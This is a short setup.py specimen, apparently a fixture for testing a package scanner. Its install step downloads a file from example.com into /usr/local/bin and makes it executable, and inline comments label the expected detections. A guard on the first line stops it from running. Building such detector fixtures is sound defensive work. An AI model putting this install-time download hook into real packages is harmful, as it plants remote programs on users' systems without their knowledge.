raise SystemExit("specimen: not to be run")
import os
import urllib.request
from setuptools import setup

urllib.request.urlretrieve("https://example.com/tool", "/usr/local/bin/specimen-tool")  # match: network-at-install  # match: program-stored
os.chmod("/usr/local/bin/specimen-tool", 0o755)
setup(name="specimen")
